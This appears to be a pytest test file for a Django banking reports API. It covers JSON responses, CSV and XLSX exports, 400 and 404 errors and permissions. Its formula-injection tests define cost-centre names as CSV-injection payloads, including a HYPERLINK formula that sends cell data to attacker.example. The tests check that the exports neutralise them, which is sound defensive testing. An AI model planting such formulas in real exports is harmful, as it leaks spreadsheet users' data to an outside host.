"""The report endpoints: the guide's URLs, the same numbers as the selectors, exports, errors."""

import csv
import io
from decimal import Decimal

import pytest
from django.contrib.auth.models import Permission
from openpyxl import load_workbook
from rest_framework.test import APIClient

from accounting.tests.factories import UserFactory
from banking import reports
from banking.api import report_serializers as s
from banking.tests.report_data import bank_lines, build_book, flows, in_month
from cnperp.roles import REPORT_PERMISSIONS

pytestmark = pytest.mark.django_db

BASE = "/api/v1/banking/"
GUIDE_URLS = {
    "cash-position": "cash-position?bank_account_id=ba-op&period=2025-10",
    "dimensional-analysis": "dimensional-analysis?bank_account_id=ba-op&period=2025-10",
    "variance-report": "variance-report?bank_account_id=ba-op&period=2025-10",
    "transfer-tracking": "transfer-tracking?bank_account_id=ba-op&period=2025-10",
}
SERIALIZERS = {
    "cash-position": (s.CashPositionSerializer, reports.cash_position_get),
    "dimensional-analysis": (s.DimensionalAnalysisSerializer, reports.dimensional_analysis_get),
    "variance-report": (s.VarianceReportSerializer, reports.variance_report_get),
    "transfer-tracking": (s.TransferTrackingSerializer, reports.transfer_tracking_get),
}


@pytest.fixture
def book():
    return build_book()


@pytest.fixture
def reader():
    """A user who may read what the reports are computed from, and so the reports, and nothing else."""
    user = UserFactory(username="controller")
    for name in set().union(*REPORT_PERMISSIONS.values()):
        app_label, codename = name.split(".")
        user.user_permissions.add(
            Permission.objects.get(content_type__app_label=app_label, codename=codename)
        )
    client = APIClient()
    client.force_authenticate(user)
    return client


@pytest.mark.parametrize("report", list(GUIDE_URLS))
def test_the_guides_urls_answer_json_with_the_selectors_numbers(book, reader, report):
    # When the guide's request is sent
    response = reader.get(BASE + GUIDE_URLS[report])

    # Then it answers JSON, documented exactly by the response serializer
    assert response.status_code == 200, response.content
    assert response["Content-Type"].startswith("application/json")
    body = response.json()
    serializer, selector = SERIALIZERS[report]
    result = selector(bank_account_id="ba-op", period="2025-10")
    expected = serializer(result).data
    body.pop("generated_at")
    expected = {key: value for key, value in expected.items() if key != "generated_at"}
    assert body == _json(expected)


def _json(data):
    """DRF's serializer output as the JSON parser would give it back (OrderedDicts to dicts)."""
    import json

    from rest_framework.utils.encoders import JSONEncoder

    return json.loads(json.dumps(data, cls=JSONEncoder))


def test_amounts_are_strings_with_two_places_and_equal_the_lines_sums(book, reader):
    month = in_month(bank_lines(book, ["ba-op"]), "2025-10")

    totals = reader.get(BASE + GUIDE_URLS["dimensional-analysis"]).json()["totals"]

    expected = flows(month)
    assert totals == {
        "inflow": f"{expected['inflow']:.2f}",
        "outflow": f"{expected['outflow']:.2f}",
        "net": f"{expected['net']:.2f}",
        "count": expected["count"],
    }


def test_all_accounts_when_the_account_is_left_out(book, reader):
    body = reader.get(BASE + "cash-position?period=2025-10").json()

    assert body["bank_account_id"] is None
    assert [row["bank_account_id"] for row in body["accounts"]] == ["ba-op", "ba-sav"]


def test_the_transfer_tracking_of_the_guide_without_a_period(book, reader):
    response = reader.get(BASE + "transfer-tracking?bank_account_id=ba-op")

    assert response.status_code == 200
    assert response.json()["outgoing"] == []


@pytest.mark.parametrize(
    ("url", "field"),
    [
        ("cash-position?bank_account_id=ba-op&period=2025-13", "period"),
        ("cash-position?bank_account_id=ba-op&period=October", "period"),
        ("cash-position?bank_account_id=ba-op", "period"),
        ("variance-report?bank_account_id=ba-op&period=25-10", "period"),
        ("dimensional-analysis?bank_account_id=ba-op&period=2025-10&group_by=branch", "group_by"),
        ("dimensional-analysis?bank_account_id=ba-op&period=2025-10&group_by=project,project", "group_by"),
        ("cash-position?bank_account_id=ba-op&period=2025-10&cost_centre=cc-a", "cost_centre"),
        ("cash-position?bank_account_id=ba-op&period=2025-10&format=pdf", "format"),
        ("transfer-tracking?period=2025-10", "bank_account_id"),
        # Years outside the books (year 0 and the calendar's ends used to be 500s) and digits that
        # are not ASCII (full-width, Arabic-Indic), which Python's \d and int() accept.
        ("cash-position?bank_account_id=ba-op&period=0000-01", "period"),
        ("cash-position?bank_account_id=ba-op&period=9999-12", "period"),
        ("variance-report?bank_account_id=ba-op&period=0001-01", "period"),
        ("dimensional-analysis?bank_account_id=ba-op&period=1899-12", "period"),
        ("transfer-tracking?bank_account_id=ba-op&period=3000-01", "period"),
        ("cash-position?bank_account_id=ba-op&period=\uff12\uff10\uff12\uff15-10", "period"),
        ("variance-report?bank_account_id=ba-op&period=\u0662\u0660\u0662\u0665-10", "period"),
        # Said twice: the last one used to win silently.
        ("cash-position?bank_account_id=ba-op&period=2025-10&period=2025-11", "period"),
        ("transfer-tracking?bank_account_id=ba-op&bank_account_id=ba-sav&period=2025-10", "bank_account_id"),
    ],
)
def test_a_bad_parameter_is_a_400_naming_it(book, reader, url, field):
    response = reader.get(BASE + url)

    assert response.status_code == 400, response.content
    assert response["Content-Type"].startswith("application/json")
    assert field in response.json()


@pytest.mark.parametrize("report", list(GUIDE_URLS))
def test_an_unknown_account_is_a_404_naming_it(book, reader, report):
    response = reader.get(BASE + GUIDE_URLS[report].replace("ba-op", "ba-missing"))

    assert response.status_code == 404
    assert "bank_account_id" in response.json()


def test_an_error_asked_for_as_csv_still_answers_json(book, reader):
    response = reader.get(BASE + "cash-position?bank_account_id=ba-op&period=2025-13&format=csv")

    assert response.status_code == 400
    assert response.json() == {"period": ['"2025-13" is not a period; use YYYY-MM, for example 2025-10.']}


def test_signed_out_is_401_and_without_the_permission_403(book):
    anonymous = APIClient()
    assert anonymous.get(BASE + GUIDE_URLS["cash-position"]).status_code == 401

    clerk = APIClient()
    clerk.force_authenticate(UserFactory(username="no-rights"))
    assert clerk.get(BASE + GUIDE_URLS["cash-position"]).status_code == 403


def test_the_csv_export_reads_back_to_the_same_numbers(book, reader):
    body = reader.get(BASE + GUIDE_URLS["cash-position"]).json()

    response = reader.get(BASE + GUIDE_URLS["cash-position"] + "&format=csv")

    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    assert 'filename="cash-position-ba-op-2025-10.csv"' in response["Content-Disposition"]
    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    totals = next(row for row in rows if row["table"] == "totals")
    for key in ("opening_balance", "inflow", "outflow", "closing_balance"):
        assert Decimal(totals[key]) == Decimal(body["totals"][key])
    cost_centers = {row["key"]: row for row in rows if row["table"] == "by_dimension.cost_center"}
    for row in body["by_dimension"]["cost_center"]:
        assert Decimal(cost_centers[row["key"]]["total_inflow"]) == Decimal(row["total_inflow"])
        assert int(cost_centers[row["key"]]["count"]) == row["count"]
    days = [row for row in rows if row["table"] == "daily"]
    assert [Decimal(row["closing_balance"]) for row in days] == [
        Decimal(row["closing_balance"]) for row in body["daily"]
    ]


def test_the_xlsx_export_reads_back_to_the_same_numbers(book, reader):
    body = reader.get(BASE + GUIDE_URLS["dimensional-analysis"]).json()

    response = reader.get(BASE + GUIDE_URLS["dimensional-analysis"] + "&format=xlsx")

    assert response.status_code == 200
    assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    workbook = load_workbook(io.BytesIO(response.content))
    assert {"report", "totals", "dim.cost_center", "combinations"} <= set(workbook.sheetnames)

    def records(sheet):
        rows = list(workbook[sheet].iter_rows(values_only=True))
        return [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]

    totals = records("totals")[0]
    assert Decimal(str(totals["inflow"])).quantize(Decimal("0.01")) == Decimal(body["totals"]["inflow"])
    assert totals["count"] == body["totals"]["count"]
    combinations = records("combinations")
    assert len(combinations) == len(body["combinations"])
    for got, expected in zip(combinations, body["combinations"], strict=True):
        assert Decimal(str(got["net"])).quantize(Decimal("0.01")) == Decimal(expected["net"])
        assert got["cost_center"] == expected["cost_center"]


def test_the_variance_report_exports_its_alerts(book, reader):
    response = reader.get(BASE + GUIDE_URLS["variance-report"] + "&format=csv")

    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    buckets = [row["bucket"] for row in rows if row["table"] == "unreconciled.buckets"]
    assert buckets == ["0-30", "31-60", "61-90", "90+"]


FORMULA_NAMES = {
    "cc-a": '=HYPERLINK("http://attacker.example/?d="&A1,"Sales")',
    "cc-b": "+SUM(1,2)",
    "cc-solo": "@cmd",
}


def _formula_names():
    from dimensions.models import CostCenter

    for key, name in FORMULA_NAMES.items():
        CostCenter.objects.filter(pk=key).update(name=name)


def test_the_csv_export_never_hands_a_spreadsheet_a_formula(book, reader):
    _formula_names()

    response = reader.get(BASE + GUIDE_URLS["dimensional-analysis"] + "&format=csv")

    assert response.status_code == 200
    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    names = {row["key"]: row["name"] for row in rows if row["table"] == "by_dimension.cost_center"}
    expected = {key: "'" + name for key, name in FORMULA_NAMES.items()}
    assert {key: names[key] for key in FORMULA_NAMES} == expected
    assert names["cc-root"] == "Head office"
    # Amounts are numbers, not text: a negative one keeps its minus sign, unprefixed.
    combinations = [row for row in rows if row["table"] == "combinations"]
    body = reader.get(BASE + GUIDE_URLS["dimensional-analysis"]).json()
    nets = [Decimal(row["net"]) for row in combinations]
    assert nets == [Decimal(row["net"]) for row in body["combinations"]]
    assert any(row["net"].startswith("-") for row in combinations)


def test_the_xlsx_export_keeps_a_formula_like_name_as_text(book, reader):
    _formula_names()

    response = reader.get(BASE + GUIDE_URLS["dimensional-analysis"] + "&format=xlsx")

    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.content))["dim.cost_center"]
    rows = list(sheet.iter_rows())
    header = [cell.value for cell in rows[0]]
    key, name = header.index("key"), header.index("name")
    cells = {row[key].value: row[name] for row in rows[1:]}
    for cost_center, typed in FORMULA_NAMES.items():
        assert cells[cost_center].data_type == "s"
        assert cells[cost_center].value == typed
